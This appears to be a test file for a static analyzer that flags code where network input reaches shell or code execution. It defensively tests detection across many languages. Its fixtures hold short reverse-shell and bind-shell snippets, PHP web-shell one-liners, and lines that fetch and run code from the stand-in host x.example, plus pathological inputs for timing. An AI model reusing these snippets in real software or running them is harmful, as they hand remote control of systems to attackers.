import assert from "node:assert/strict";
import { sourceFlows } from "../../../extension/core/shell/source-flow.ts";

/** `connect HOST PORT`, `listen PORT`, `run AS FROM`. */
const told = (language: string, text: string): string[] =>
  sourceFlows(language, text).map((flow) => {
    if (flow.kind === "connect") return `connect ${flow.host} ${flow.port}`;
    if (flow.kind === "listen") return `listen ${flow.port}`;
    return `run ${flow.as} ${flow.isSocket ? "socket" : "client"} ${flow.from}`;
  });

describe("what flows from the network into a program, by text alone", () => {
  const cases: readonly (readonly [title: string, language: string, text: string, ...expected: string[]])[] = [
    [
      "streams of a socket and of a shell that meet",
      "java",
      'String h = "1.2.3.4"; int n = 5000;\nProcess p = new ProcessBuilder("/bin/sh").start();\nSocket s = new Socket(h, n);\nOutputStream o = p.getOutputStream();\nInputStream i = s.getInputStream();\nwhile (i.available() > 0) o.write(i.read());',
      "connect 1.2.3.4 5000",
      "run sh socket 1.2.3.4",
    ],
    [
      "a line that is read and run",
      "kotlin",
      'val s = Socket("1.2.3.4", 5000)\nval line = s.getInputStream().bufferedReader().readLine()\nRuntime.getRuntime().exec(line)',
      "connect 1.2.3.4 5000",
      "run sh socket 1.2.3.4",
    ],
    [
      "a fixed program beside a socket, which is nothing",
      "java",
      'Socket s = new Socket("1.2.3.4", 25);\ns.getOutputStream().write(1);\nProcess p = new ProcessBuilder("git", "status").start();',
      "connect 1.2.3.4 25",
    ],
    [
      "what a fixed program prints that is sent, which is nothing",
      "php",
      '$s = fsockopen("1.2.3.4", 2003); $load = shell_exec("uptime"); fwrite($s, $load);',
      "connect 1.2.3.4 2003",
    ],
    [
      "descriptors that a shell gets, the address from a structure",
      "c",
      'a.sin_port = htons(5000);\ninet_pton(AF_INET, "1.2.3.4", &a.sin_addr);\nconnect(s, &a, sizeof a);\ndup2(s, 0);\nexecve("/bin/sh", argv, NULL);',
      "connect 1.2.3.4 5000",
      "run sh socket 1.2.3.4",
    ],
    [
      "a handle that the mode of `open` names",
      "perl",
      'connect(S, sockaddr_in(5000, inet_aton("1.2.3.4")));\nopen(STDIN, ">&S");\nexec("/bin/sh -i");',
      "connect 1.2.3.4 5000",
      "run sh socket 1.2.3.4",
    ],
    [
      "a descriptor by its number",
      "lua",
      't:connect("1.2.3.4", 5000); os.execute("/bin/sh -i <&3 >&3 2>&3");',
      "connect 1.2.3.4 5000",
      "run sh socket 1.2.3.4",
    ],
    [
      "a chain of calls",
      "rust",
      'let s = TcpStream::connect("1.2.3.4:5000").unwrap();\nCommand::new("/bin/sh")\n  .stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) })\n  .spawn();',
      "connect 1.2.3.4 5000",
      "run sh socket 1.2.3.4",
    ],
    [
      "a port that is opened",
      "c",
      'listen(l, 1); int c = accept(l, 0, 0); dup2(c, 0); execl("/bin/sh", "sh", NULL);',
      "listen undefined",
      "run sh socket 0.0.0.0",
    ],
    [
      "a variable called like a keyword",
      "php",
      "socket_listen($s); $c = socket_accept($s); $in = socket_read($c, 9); $p = popen($in, 'r');",
      "listen undefined",
      "run sh socket 0.0.0.0",
    ],
    ["a request", "php", "<?php system($_GET['c']);", "run sh socket 0.0.0.0"],
    ["a request that is code", "php", "<?php @eval($_POST['p']);", "run code socket 0.0.0.0"],
    ["a request that was made harmless, which is nothing", "php", "<?php system('ls ' . escapeshellarg($_GET['d']));"],
    ["a request in a page, which is nothing", "php", '<?php echo $_GET["name"]; $v = shell_exec("git log -1");'],
    ["code that is fetched", "groovy", 'evaluate(new URL("http://x.example/a").text)', "run code client http://x.example/a"],
    [
      "code that is fetched first",
      "lua",
      'local b = http.request("http://x.example/a"); loadstring(b)()',
      "run code client http://x.example/a",
    ],
    [
      "a file that is fetched",
      "perl",
      'getstore("http://x.example/a", "/tmp/a"); chmod 0755, "/tmp/a"; system("/tmp/a");',
      "run sh client http://x.example/a",
    ],
    ["a fetched text that is printed, which is nothing", "perl", 'my $t = get("http://x.example/a"); print $t; system("uptime");'],
    ["a handler that is given a socket, which is no code", "tcl", "set s [socket 1.2.3.4 5000]\neval $handler $s", "connect 1.2.3.4 5000"],
    [
      "a name that means something else far away",
      "java",
      `Socket s = new Socket("1.2.3.4", 5000);\n${"x();\n".repeat(2000)}Runtime.getRuntime().exec(s);`,
      "connect 1.2.3.4 5000",
    ],
    ["what only comments say", "java", '// Socket s = new Socket("1.2.3.4", 5000); Runtime.getRuntime().exec(s);'],
    ["a language that nobody described", "cobol", 'CALL "SYSTEM"'],
  ];
  for (const [title, language, text, ...expected] of cases) {
    it(title, () => {
      assert.deepEqual(told(language, text), expected);
    });
  }
});

describe("texts that are made to be slow to read", () => {
  const hostile: readonly (readonly [title: string, text: string])[] = [
    ["quotes that only escapes follow", `connect(a); ${'"\\\\'.repeat(150_000)}`],
    ["one long name", `connect(s, ${"a".repeat(400_000)}`],
    ["a long comment inside of a call", `connect(/*${" x".repeat(200_000)}*/ s, a);`],
    ["nothing but commas", `connect(s); ${", a".repeat(150_000)}`],
    ["nothing but brackets", `connect(s); ${"([".repeat(200_000)}`],
    ["nothing but bars", `connect(s); ${"|a".repeat(200_000)} {`],
  ];
  for (const [title, text] of hostile) {
    for (const language of ["c", "perl", "php", "java"]) {
      it(`reads ${title} as ${language} in time`, function () {
        this.timeout(20_000);
        assert.ok(sourceFlows(language, text).length <= 64);
      });
    }
  }
});
